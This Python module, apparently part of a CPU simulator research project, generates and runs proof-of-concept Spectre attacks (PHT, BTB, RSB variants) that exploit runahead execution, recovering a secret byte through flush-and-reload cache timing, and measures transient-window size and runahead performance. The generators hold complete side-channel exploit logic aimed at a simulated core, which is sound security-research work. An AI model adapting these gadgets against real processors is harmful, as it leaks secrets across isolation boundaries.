"""Proof-of-concept generators for runahead-nested Spectre, plus result analysis.

Every PoC is one program holding both the victim and the attacker:

1. a victim routine whose secret-dependent load sits behind a control-flow
   decision (bounds check, indirect jump or return) that hinges on a
   flushed value, so the decision is still open when runahead starts;
2. attacker code that trains the predictor, flushes the probe array and
   the decision's input, calls the victim with a malicious index, and
3. times every probe line with RDCYCLE, storing the deltas in a buffer.

Window fixtures place a marker load a chosen distance after a stalling load
and check afterwards whether the marker line was ever fetched.
"""
from __future__ import annotations

from dataclasses import dataclass

from .asm import assemble
from .config import SimConfig
from .core import run
from .errors import ParamError, SearchError
from .isa import DEFAULT_MEM_SIZE, WORD_BYTES, to_signed
from .mem_hier import Level

VARIANTS = ("pht", "btb", "rsb_overwrite", "rsb_flush")
DEFAULT_THRESHOLD = 50
IN_BOUNDS = 16

# Data layout. Lines other than the probe array sit in odd-numbered sets so the
# probe lines (stride 512 = every 8th set) do not evict them.
ARRAY1 = 0x20000
SIZE_ADDR = 0x30040
SECRET_ADDR = 0x40080
FNPTR_ADDR = 0x50040
RETPTR_ADDR = 0x500C0
BARRIER_ADDR = 0x58040
CHAIN_ADDR = 0x5C040
RESULTS = 0x60040
ARRAY2 = 0x100000

# window fixtures
WINDOW_X = 0x30040
WINDOW_MARKER = 0x380C0
WINDOW_CHAIN = 0x34040
WINDOW_BOUNDS = (1, 1900)


@dataclass(frozen=True)
class PocParams:
    secret_byte: int
    variant: str = "pht"
    probe_stride_bytes: int = 512
    probe_entries: int = 256
    train_iterations: int = 8
    nop_pad: int = 0
    repeat_flush: int = 1

    def validate(self, mem_size: int = DEFAULT_MEM_SIZE, line_bytes: int = 64) -> None:
        if self.variant not in VARIANTS:
            raise ParamError(f"unknown variant {self.variant!r}; expected one of {', '.join(VARIANTS)}")
        if not 0 <= self.secret_byte <= 255:
            raise ParamError("secret_byte must be in 0..255")
        if not 1 <= self.probe_entries <= 256:
            raise ParamError("probe_entries must be in 1..256")
        if self.secret_byte >= self.probe_entries:
            raise ParamError("secret_byte falls outside the probe array")
        s = self.probe_stride_bytes
        if s < line_bytes or s % line_bytes or s & (s - 1):
            raise ParamError("probe_stride_bytes must be a power-of-two multiple of the line size")
        if self.train_iterations < 1:
            raise ParamError("train_iterations must be at least 1")
        if self.nop_pad < 0:
            raise ParamError("nop_pad must be non-negative")
        if self.repeat_flush < 1:
            raise ParamError("repeat_flush must be at least 1")
        # the top 64KB of memory is left to the stack
        if ARRAY2 + self.probe_entries * s > mem_size - 0x10000:
            raise ParamError("probe array does not fit in memory")

    @property
    def malicious_x(self) -> int:
        return SECRET_ADDR - ARRAY1


@dataclass
class ProbeReport:
    latencies: list[int]
    threshold: int
    recovered: int | None
    diagnostic: str = ""

    def to_csv(self) -> str:
        rows = ["index,latency_cycles"]
        rows += [f"{i},{lat}" for i, lat in enumerate(self.latencies)]
        rec = "none" if self.recovered is None else str(self.recovered)
        rows.append(f"recovered,{rec},threshold,{self.threshold}")
        return "\n".join(rows) + "\n"

    def hits(self) -> list[int]:
        return [i for i, lat in enumerate(self.latencies) if lat < self.threshold]


def recover_secret(latencies, threshold: int = DEFAULT_THRESHOLD) -> ProbeReport:
    """The unique index timed below ``threshold``, else none."""
    lats = [int(v) for v in latencies]
    if not lats:
        return ProbeReport(lats, threshold, None, "no samples")
    fast = [i for i, v in enumerate(lats) if v < threshold]
    if not fast:
        return ProbeReport(lats, threshold, None, "no index below threshold")
    if len(fast) > 1:
        shown = ",".join(map(str, fast[:8]))
        return ProbeReport(lats, threshold, None, f"{len(fast)} indices below threshold ({shown})")
    return ProbeReport(lats, threshold, fast[0], f"index {fast[0]} at {lats[fast[0]]} cycles")


def parse_probe_csv(text: str) -> ProbeReport:
    lats = []
    recovered = None
    threshold = DEFAULT_THRESHOLD
    for line in text.strip().splitlines()[1:]:
        parts = line.split(",")
        if parts[0] == "recovered":
            recovered = None if parts[1] == "none" else int(parts[1])
            threshold = int(parts[3])
        else:
            lats.append(int(parts[1]))
    return ProbeReport(lats, threshold, recovered)


# -- PoC generation ------------------------------------------------------------
def _gadget(p: PocParams, index_reg: str = "r10") -> list[str]:
    """Secret-dependent access: array2[array1[x] * stride]."""
    shift = p.probe_stride_bytes.bit_length() - 1
    lines = [
        f"add r12, r21, {index_reg}",
        "ld r13, 0(r12)",            # array1[x]: the secret when x is malicious
        "andi r13, r13, 255",
        f"slli r13, r13, {shift}",
        "add r14, r22, r13",
    ]
    lines += ["nop"] * p.nop_pad
    lines.append("ld r15, 0(r14)")  # leaves the secret in the cache
    return lines


def _chain(p: PocParams, reg: str) -> list[str]:
    """Extra flushed loads the victim's decision input depends on (repeat_flush > 1)."""
    out = []
    for i in range(p.repeat_flush - 1):
        out += [f"ld r9, {i * 64}(r26)", "andi r9, r9, 0", f"add {reg}, {reg}, r9"]
    return out


def _flush_chain(p: PocParams) -> list[str]:
    return [f"clflush {i * 64}(r26)" for i in range(p.repeat_flush - 1)]


def gen_poc(params: PocParams) -> str:
    """Assembly text of the complete attack program for ``params``."""
    p = params
    p.validate()
    x_bad = p.malicious_x
    text: list[str] = []
    emit = text.append

    data = [
        ".data",
        f".org {ARRAY1:#x}",
        "array1: .byte " + ", ".join(str(i + 1) for i in range(IN_BOUNDS)),
        f".org {SIZE_ADDR:#x}",
        f"array1_size: .word {IN_BOUNDS}",
        f".org {SECRET_ADDR:#x}",
        f"secret: .byte {p.secret_byte}",
        f".org {FNPTR_ADDR:#x}",
        "fnptr: .word 0",
        f".org {RETPTR_ADDR:#x}",
        "retptr: .word 0",
        f".org {BARRIER_ADDR:#x}",
        "barrier: .word 0",
        f".org {CHAIN_ADDR:#x}",
        "chain: .space 512",
        f".org {RESULTS:#x}",
        f"results: .space {p.probe_entries * WORD_BYTES}",
        f".org {ARRAY2:#x}",
        "array2: .space 8",
        ".text",
        "main:",
    ]
    regs = [
        "li r20, array1_size",
        "li r21, array1",
        "li r22, array2",
        "li r23, fnptr",
        "li r24, barrier",
        "li r25, retptr",
        "li r26, chain",
    ]
    text += ["    " + r for r in regs]
    # warm the secret first: a miss here would start a runahead episode that
    # prefetches the victim's flushed input before the attack needs it stalled
    emit("    li r9, secret")
    emit("    ld r9, 0(r9)")

    # step 1: train the decision the victim will mispredict
    if p.variant == "pht":
        for i in range(p.train_iterations):
            emit(f"    li r10, {i % IN_BOUNDS}")
            emit("    call victim")
    elif p.variant == "btb":
        emit("    li r5, gadget")
        emit("    st r5, 0(r23)")
        for i in range(p.train_iterations):
            emit(f"    li r10, {i % IN_BOUNDS}")
            emit("    call victim")
        emit("    li r5, safe")
        emit("    st r5, 0(r23)")
    else:
        emit("    li r5, after")
        emit("    st r5, 0(r25)")

    # step 2: flush the probe array and the decision input, warm the secret
    for i in range(p.probe_entries):
        emit(f"    clflush {i * p.probe_stride_bytes}(r22)")
    emit("    clflush 0(r24)")
    text += ["    " + s for s in _flush_chain(p)]
    if p.variant == "pht":
        emit("    clflush 0(r20)")
    elif p.variant == "btb":
        emit("    clflush 0(r23)")
    elif p.variant == "rsb_overwrite":
        emit("    clflush 0(r25)")
    emit("    rdcycle r9")       # nothing younger issues before everything above is done
    emit(f"    li r10, {x_bad}")

    # step 3: the malicious call; the victim's decision stalls and runahead starts
    if p.variant in ("pht", "btb"):
        emit("    call victim")
        emit("after:")
    else:
        emit("    call victim")
        # the stacked return address now points at "after"; the RSB still says here
        text += ["    " + s for s in _gadget(p)]
        emit("    halt")
        emit("after:")

    # step 4: time every probe line. The probe base waits for a flushed barrier
    # line so runahead cannot reach the probe loop with valid addresses.
    text += [
        "    ld r7, 0(r24)",
        "    andi r7, r7, 0",
        "    add r27, r22, r7",
        "    li r28, results",
        f"    li r4, {p.probe_entries}",
        "probe:",
        "    rdcycle r6",
        "    ld r7, 0(r27)",
        "    rdcycle r8",
        "    sub r9, r8, r6",
        "    addi r9, r9, -1",     # cancels the RDCYCLE issue slot
        "    st r9, 0(r28)",
        "    addi r28, r28, 8",
        "    andi r7, r7, 0",
        "    add r27, r27, r7",
        f"    addi r27, r27, {p.probe_stride_bytes}",
        # return through a stack slot whose address depends on the probe load:
        # the RSB is empty, so fetch waits here, and a runahead episode started
        # by this probe stops fetching instead of running ahead
        "    add r30, r30, r7",
        "    li r5, probe_next",
        "    st r5, -8(r30)",
        "    addi r30, r30, -8",
        "    ret",
        "probe_next:",
        "    addi r4, r4, -1",
        "    bne r4, r0, probe",
        "    halt",
    ]

    # victim routines
    emit("victim:")
    if p.variant == "pht":
        text += ["    " + s for s in _chain(p, "r20")]
        emit("    ld r11, 0(r20)")           # array1_size: the stalling load
        emit("    bge r10, r11, victim_end")
        text += ["    " + s for s in _gadget(p)]
        emit("victim_end:")
        emit("    ret")
    elif p.variant == "btb":
        text += ["    " + s for s in _chain(p, "r23")]
        emit("    ld r11, 0(r23)")           # function pointer: the stalling load
        emit("    jalr r0, r11")
        emit("safe:")
        emit("    ret")
        emit("gadget:")
        text += ["    " + s for s in _gadget(p)]
        emit("    ret")
    elif p.variant == "rsb_overwrite":
        text += ["    " + s for s in _chain(p, "r25")]
        emit("    ld r5, 0(r25)")            # replacement return address: the stalling load
        emit("    st r5, 0(r30)")
        emit("    ret")
    else:
        text += ["    " + s for s in _chain(p, "r30")]
        emit("    li r5, after")
        emit("    st r5, 0(r30)")
        emit("    clflush 0(r30)")           # the return itself becomes the stalling load
        emit("    ret")
    return "\n".join(data + text) + "\n"


@dataclass
class AttackOutcome:
    params: PocParams
    report: ProbeReport
    ground_truth: list[int]      # peek latency of each probe line just before it was timed
    result: object               # RunResult
    consistent: bool             # timed and peeked latencies agree on hit/miss for every index

    @property
    def leaked(self) -> bool:
        return self.report.recovered == self.params.secret_byte


def run_poc(params: PocParams, config: SimConfig | None = None,
            threshold: int = DEFAULT_THRESHOLD) -> AttackOutcome:
    """Generate, assemble and simulate one PoC; read the timings out of memory."""
    cfg = config or SimConfig()
    params.validate(cfg.mem_size, cfg.cache_line_bytes)
    program = assemble(gen_poc(params), cfg.mem_size)
    probe_pc = program.labels["probe"]
    peeks: list[int] = []

    def before_probe(core):
        if len(peeks) < params.probe_entries:
            peeks.append(core.hier.peek_latency(core.rf_val[27]).latency)

    result = run(program, cfg, hooks={probe_pc: before_probe})
    mem = result.final_state.memory
    lats = [to_signed(int.from_bytes(mem[RESULTS + 8 * i:RESULTS + 8 * i + 8], "little"))
            for i in range(params.probe_entries)]
    report = recover_secret(lats, threshold)
    consistent = len(peeks) == len(lats) and all(
        (a < threshold) == (b < threshold) for a, b in zip(lats, peeks))
    return AttackOutcome(params, report, peeks, result, consistent)


# -- window measurement ----------------------------------------------------------
def gen_window_probe(case: int, nop_count: int, repeat_flush: int = 3) -> str:
    """Stalling load, a mispredicted branch, ``nop_count`` NOPs and a marker load.

    The branch skips the marker architecturally, so the marker line is only
    ever touched if the transient window stretches that far.
    """
    if case not in (1, 2, 3):
        raise ParamError("window case must be 1, 2 or 3")
    if nop_count < 1:
        raise ParamError("nop_count must be at least 1")
    chain = repeat_flush if case == 3 else 1
    if chain < 1:
        raise ParamError("repeat_flush must be at least 1")
    lines = [
        ".data",
        f".org {WINDOW_X:#x}",
        "x: .word 1",
        f".org {WINDOW_CHAIN:#x}",
        "chain: .space 1024",
        f".org {WINDOW_MARKER:#x}",
        "marker: .word 0",
        ".text",
        "    li r1, x",
        "    li r2, marker",
        "    li r12, chain",
        "    clflush 0(r1)",
        "    clflush 0(r2)",
    ]
    for i in range(1, chain):
        lines.append(f"    clflush {(i - 1) * 128}(r12)")
    lines += ["    rdcycle r3", "    ld r4, 0(r1)"]
    for i in range(1, chain):
        # each link only becomes addressable once the previous one returns
        lines += ["    andi r9, r4, 0", "    add r11, r12, r9", f"    ld r4, {(i - 1) * 128}(r11)"]
        lines.append("    addi r4, r4, 1")
    lines.append("    bne r4, r0, done")
    lines += ["    nop"] * nop_count
    lines += ["    ld r5, 0(r2)", "done:", "    halt"]
    return "\n".join(lines) + "\n"


def window_offset(case: int, repeat_flush: int = 3) -> int:
    """Instructions from the first stalling load to the marker, excluding the NOPs."""
    chain = repeat_flush if case == 3 else 1
    return 2 + 4 * (chain - 1)


def window_config(case: int, base: SimConfig | None = None) -> SimConfig:
    cfg = base or SimConfig()
    return cfg.replace(runahead_enabled=case != 1, defense_mode="none")


def marker_reached(case: int, nop_count: int, config: SimConfig | None = None,
                   repeat_flush: int = 3) -> bool:
    cfg = window_config(case, config)
    program = assemble(gen_window_probe(case, nop_count, repeat_flush), cfg.mem_size)
    result = run(program, cfg)
    return result.cache.peek_latency(WINDOW_MARKER).hit_level is not Level.MEM


def measure_window(case: int, search_bounds: tuple[int, int] = WINDOW_BOUNDS,
                   config: SimConfig | None = None, repeat_flush: int = 3) -> int:
    """Largest marker distance the transient window covers, by binary search on the NOP count."""
    lo, hi = search_bounds
    if lo < 1 or hi <= lo:
        raise SearchError(f"bad search bounds {search_bounds}")
    reach = lambda n: marker_reached(case, n, config, repeat_flush)  # noqa: E731
    if not reach(lo):
        raise SearchError(f"marker not reached even with {lo} NOPs")
    if reach(hi):
        raise SearchError(f"marker still reached with {hi} NOPs; widen the bounds")
    while hi - lo > 1:
        mid = (lo + hi) // 2
        if reach(mid):
            lo = mid
        else:
            hi = mid
    return lo + window_offset(case, repeat_flush)


# -- performance microbenchmark ----------------------------------------------------
def gen_microbench(loads: int = 128, stride: int = 256, filler: int = 4) -> str:
    """A loop of independent cache-missing loads, each followed by a little dependent work."""
    if loads < 1 or filler < 0 or stride < 64:
        raise ParamError("microbenchmark needs loads >= 1, filler >= 0, stride >= 64")
    body = ["    ld r2, 0(r1)", "    add r4, r4, r2"]
    body += [f"    addi r{5 + i % 4}, r{5 + i % 4}, 1" for i in range(filler)]
    lines = [
        ".data",
        ".org 0x100000",
        "stream: .space 8",
        ".text",
        "    li r1, stream",
        f"    li r3, {loads}",
        "loop:",
        *body,
        f"    addi r1, r1, {stride}",
        "    addi r3, r3, -1",
        "    bne r3, r0, loop",
        "    halt",
    ]
    return "\n".join(lines) + "\n"


@dataclass
class BenchResult:
    ipc_off: float
    ipc_on: float
    cycles_off: int
    cycles_on: int
    episodes: int

    @property
    def improvement(self) -> float:
        """IPC gain of runahead in percent."""
        return 100.0 * (self.ipc_on / self.ipc_off - 1.0) if self.ipc_off else 0.0

    def text(self) -> str:
        return (f"ipc_off {self.ipc_off:.6f}\nipc_on {self.ipc_on:.6f}\n"
                f"cycles_off {self.cycles_off}\ncycles_on {self.cycles_on}\n"
                f"runahead_episodes {self.episodes}\nimprovement_pct {self.improvement:.2f}\n")


def run_microbench(loads: int = 128, config: SimConfig | None = None) -> BenchResult:
    cfg = config or SimConfig()
    program = assemble(gen_microbench(loads), cfg.mem_size)
    off = run(program, cfg.replace(runahead_enabled=False))
    on = run(program, cfg.replace(runahead_enabled=True))
    return BenchResult(off.ipc, on.ipc, off.cycles, on.cycles, on.runahead_episodes)
